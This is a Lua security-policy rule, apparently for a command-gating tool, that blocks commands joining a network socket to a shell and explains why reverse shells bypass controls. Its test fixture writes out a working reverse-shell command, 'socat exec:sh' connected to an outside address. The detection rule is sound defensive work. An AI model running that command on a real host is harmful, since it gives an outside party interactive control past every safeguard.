local lib = require "lib"

return {
	id = "NET-003", severity = "C", tier = "ENFORCE", on_error = "block", waivable = "none", owner = "security",
	title = "a socket joined to a shell",
	looks_at = "a network connection whose ends are a shell's or a program's input and output",
	why = "This is the shape of a reverse shell: whoever is at the other end works on the host, past every gate.",
	suggestion = "Ask for a session grant; for moving data use a program that does only that.",
	doc = "docs/rules.md#net-003",
	check = function(input, report)
		lib.impacts(input, function(impact, command, step)
			if lib.flag(impact, "socket_shell") then
				report(lib.finding(step, command, impact.object, "reverse shell shape: " .. lib.word(command.program) .. " joins a shell to " .. lib.what(impact)))
			end
		end)
	end,
	tests = {
		fires = {
			{
				name = "socat", objects = { "tcp:203.0.113.9:443" }, messages = { "reverse shell shape: socat joins a shell to tcp:203.0.113.9:443" },
				input = lib.change("socat exec:sh tcp:203.0.113.9:443", { verb = "connect", kind = "net", object = "tcp:203.0.113.9:443", flags = { "socket_shell" } }),
			},
		},
		quiet = {
			{ name = "a connection alone", input = lib.change("nc -z web-1 80", { verb = "connect", kind = "net", object = "web-1:80" }) },
		},
	},
}
